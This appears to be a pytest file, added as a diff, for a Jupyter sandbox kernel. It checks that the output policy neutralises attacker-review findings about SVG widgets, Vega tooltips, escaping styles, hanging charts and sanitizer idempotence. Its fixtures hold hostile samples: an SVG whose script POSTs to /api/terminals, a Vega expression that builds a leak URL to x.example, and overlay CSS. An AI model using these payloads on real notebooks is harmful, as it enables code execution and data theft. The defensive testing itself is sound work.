@@ -1,0 +1,172 @@
+"""What no HTML sanitizer looks at (issue 29), in process: each finding of the attacker review
+fails on the policy before it. The browser proof is tests/test_browser_round3.py.
+
+1. an ``Image`` widget with ``format="svg+xml"``: its blob, opened as a document, ran script;
+2. vega-embed's tooltip handler wrote a data object's ``image`` as ``<img src>``;
+3. an output's ``<style>`` styled JupyterLab's own elements (and lifted their clipping);
+4. a Vega spec without marks (or a size) stopped the Lab tab;
+5. policing twice changed the output again (misnested markup, attribute order, ``isolate``).
+"""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+import tinycss2
+
+from sandbox_kernel.core.events import Comm
+from sandbox_kernel.policy import OutputPolicy
+from sandbox_kernel.policy.widgets.rules import WidgetRules
+from tests.policy_oracle import css_violations, html_violations
+from tests.test_widget_policy import opening, state_of, update
+
+pytestmark = pytest.mark.unit
+
+SVG_SCRIPT = (b'<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8"/>'
+              b'<script>fetch("/api/terminals", {method: "POST"})</script></svg>')
+VL = "application/vnd.vegalite.v5+json"
+VEGA = "application/vnd.vega.v5+json"
+
+
+# -- 1. widget media --------------------------------------------------------------------------------
+def media(event: Comm) -> tuple[dict, dict[str, bytes]]:
+    """``(state, {path: buffer})`` of a comm message the rules wrote."""
+    data = event.content["data"]
+    return data.get("state", {}), {"/".join(map(str, p)): b for p, b in zip(data["buffer_paths"], event.buffers)}
+
+
+def test_an_svg_image_widget_gets_its_value_through_the_svg_rule():
+    rules = WidgetRules(OutputPolicy())
+    event, changed, _ = rules.from_sandbox(opening("i", "ImageModel", buffer_paths=[["value"]], buffers=[SVG_SCRIPT], format="svg+xml"))
+    state, buffers = media(event)
+    assert changed and state["format"] == "svg+xml"
+    assert b"<script" not in buffers["value"] and b"<rect" in buffers["value"]
+
+
+@pytest.mark.parametrize("switch", ["svg+xml", "SVG+XML"])
+def test_switching_a_harmless_image_to_svg_sends_its_value_again_policed(switch):
+    rules = WidgetRules(OutputPolicy())
+    event, changed, _ = rules.from_sandbox(opening("i", "ImageModel", buffer_paths=[["value"]], buffers=[SVG_SCRIPT], format="png"))
+    assert media(event)[1]["value"] == SVG_SCRIPT  # image/png: the browser never runs it, even opened alone
+    event, changed, _ = rules.from_sandbox(update("i", format=switch))
+    state, buffers = media(event)
+    assert changed and state == {"format": "svg+xml"} and b"<script" not in buffers["value"]
+
+
+@pytest.mark.parametrize("model, fmt", [("ImageModel", "svg+xml "), ("ImageModel", "html"), ("ImageModel", ""),
+                                        ("ImageModel", "url"), ("VideoModel", "svg+xml"), ("AudioModel", "svg+xml"),
+                                        ("VideoModel", "x-html+xml")])
+def test_a_format_outside_the_models_list_is_dropped(model, fmt):
+    """``"svg+xml "`` ran script in Chromium (the MIME parser trims the space); the view keeps
+    its previous format (or its default, png/mp4/mp3) for any format not listed."""
+    rules = WidgetRules(OutputPolicy())
+    event, changed, _ = rules.from_sandbox(opening("m", model, buffer_paths=[["value"]], buffers=[SVG_SCRIPT], format=fmt))
+    assert changed and "format" not in media(event)[0]
+
+
+def test_an_update_of_an_svg_images_value_is_policed_and_so_is_a_restored_page():
+    rules = WidgetRules(OutputPolicy())
+    rules.from_sandbox(opening("i", "ImageModel", buffer_paths=[["value"]], buffers=[b"<svg/>"], format="svg+xml"))
+    event, _, _ = rules.from_sandbox(update("i", buffer_paths=[["value"]], buffers=[SVG_SCRIPT]))
+    assert b"<script" not in media(event)[1]["value"]
+    rules.from_frontend("comm_open", {"comm_id": "ctl", "target_name": "jupyter.widget.control"})
+    entry = {"model_name": "ImageModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0",
+             "state": {**state_of((opening("j", "ImageModel"), 0, 0)), "format": "svg+xml"}}
+    states = Comm("comm_msg", {"comm_id": "ctl", "data": {"method": "update_states", "states": {"j": entry},
+                                                          "buffer_paths": [["j", "state", "value"]]}}, {}, (SVG_SCRIPT,))
+    event, changed, _ = rules.from_sandbox(states)
+    assert changed and b"<script" not in event.buffers[0] and event.content["data"]["buffer_paths"] == [
+        ["j", "state", "value"]]
+
+
+# -- 2. chart tooltips ------------------------------------------------------------------------------
+TOOLTIPS = {
+    "content-data": {"mark": {"type": "point", "tooltip": {"content": "data"}}, "encoding": {}},
+    "altair-field": {"mark": "point", "encoding": {"tooltip": [{"field": "image", "type": "nominal"}]}},
+    "expression": {"mark": "point", "transform": [{"calculate": "'https://x.example/?d=' + datum.x", "as": "image"}],
+                   "encoding": {"tooltip": {"field": "image"}}},
+}
+
+
+@pytest.mark.parametrize("shape", list(TOOLTIPS))
+def test_chart_tooltips_are_vegas_own_text(shape):
+    """vega-tooltip writes ``<img src=image>`` for any data object with an ``image`` key, however
+    the value was made; ``embed_options.tooltip: false`` leaves Vega's handler (a ``title``
+    attribute, text only), for every spec."""
+    spec = {"data": {"values": [{"x": 1, "image": "https://x.example/leak.png"}]}, **TOOLTIPS[shape]}
+    policed = OutputPolicy().bundle({VL: spec}, {VL: {"embed_options": {"tooltip": True}}})
+    assert policed.metadata[VL]["embed_options"]["tooltip"] is False
+
+
+# -- 3. styles stay inside their output --------------------------------------------------------------
+LIFT = (".lm-Widget, .jp-Cell, .jp-OutputArea-output, .jp-WindowedPanel-outer, html, body, :root, *, :scope, "
+        "div {overflow: visible !important; contain: none !important}")
+
+
+@pytest.mark.parametrize("source", [
+    f"<style>{LIFT}</style><a href='https://x.example' style='position:relative;top:-3000px'>x</a>",
+    f"<style>@media screen {{ {LIFT} }} @supports (display: grid) {{ {LIFT} }}</style>",
+    f"<style>@scope (.jp-Cell) {{ {LIFT} }} @layer x {{ {LIFT} }}</style>",
+    f"<div><svg><defs><style>{LIFT}</style></defs><rect/></svg></div>",
+])
+def test_every_style_rule_is_scoped_below_its_output(source):
+    """Each block is one ``@scope`` whose rules all start with ``:scope`` and a combinator:
+    nothing outside the output, not even the node JupyterLab puts it in, can be selected."""
+    for mode in ("sanitize", "isolate"):
+        html = OutputPolicy(mode).bundle({"text/html": source}).data["text/html"]
+        blocks = re.findall(r"<style>(.*?)</style>", html, re.S)
+        assert blocks and not html.startswith("<iframe")
+        for block in blocks:
+            css = block.replace("&gt;", ">").replace("&amp;", "&")
+            assert css_violations(css, block=True) == [], css
+            assert [n.lower_at_keyword for n in tinycss2.parse_stylesheet(css, True, True)] == ["scope"]
+
+
+def test_scoped_styles_are_not_active_content():
+    """``isolate`` frames what could act; a scoped style block cannot, so it is not framed,
+    and the cell says nothing."""
+    styled = "<style>td { color: red }</style><table><tr><td>1</td></tr></table>"
+    policed = OutputPolicy("isolate").bundle({"text/html": styled})
+    assert not policed.changed and policed.data["text/html"].startswith("<style>@scope {")
+
+
+# -- 4. Vega specs the renderer cannot lay out ----------------------------------------------------------
+SCHEMA = "https://vega.github.io/schema/vega/v5.json"
+RECT = {"type": "rect", "encode": {"enter": {"width": {"value": 5}, "height": {"value": 5}}}}
+
+
+@pytest.mark.parametrize("spec", [{"$schema": SCHEMA}, {}, {"data": [{"name": "t", "values": [{"a": 1}]}]},
+                                  {"signals": [{"name": "s", "value": 1}]}, {"marks": []}, {"marks": [{"type": "group"}]},
+                                  {"marks": [{"type": "rect"}]}, {"width": 50, "height": 0, "marks": [RECT]}])
+def test_a_vega_spec_without_marks_or_size_is_refused_with_a_note(spec):
+    """Each of these made JupyterLab 4.6.6's renderer spin (the tab stopped answering)."""
+    policed = OutputPolicy().bundle({VEGA: spec, "text/plain": "chart"})
+    assert policed.data == {"text/plain": "chart"} and policed.changed
+    assert policed.notes == [f"[a {VEGA} output was not shown: a Vega spec without marks, or without a width and a "
+                             "height in pixels, can lay out nothing, and then JupyterLab's chart renderer stops its tab]"]
+    drawn = {"width": 50, "height": 50, "marks": [RECT]}
+    assert OutputPolicy().bundle({VEGA: drawn}).data[VEGA] == drawn
+
+
+# -- 5. a fixed point -------------------------------------------------------------------------------------
+@pytest.mark.parametrize("source", ["<li><a><table><li>t", "<h1><a><h2></a>", "<select><a>x", "<p><table><p>x",
+                                    '<a title="t" href="https://x.example" rel="x">a</a><a>b</a>',
+                                    "<a><table><a>x</a></table></a>", "<svg><p>x</svg>", "<b><p>x</b>y</p>"])
+@pytest.mark.parametrize("mode", ["sanitize", "isolate"])
+def test_what_the_policy_writes_policed_again_is_byte_identical(source, mode):
+    """nh3 keeps the children of what it removes; the nestings that leaves are parsed again as a
+    browser parses them until nothing moves, so the page builds the tree the policy checked."""
+    policy = OutputPolicy(mode)
+    first = policy.bundle({"text/html": source})
+    second = policy.bundle(first.data, first.metadata)
+    assert second.data == first.data and not second.changed
+    if not first.data["text/html"].startswith("<iframe"):
+        assert "mutates when parsed again" not in html_violations(first.data["text/html"])
+
+
+def test_isolate_never_frames_its_own_sanitized_output():
+    policy = OutputPolicy("isolate")
+    for source in ("<li><a><table><li>t", "<b style='color:red'>x</b><style>p{margin:0}</style>"):
+        clean = OutputPolicy().bundle({"text/html": source}).data["text/html"]
+        assert policy.bundle({"text/html": clean}).data["text/html"] == clean
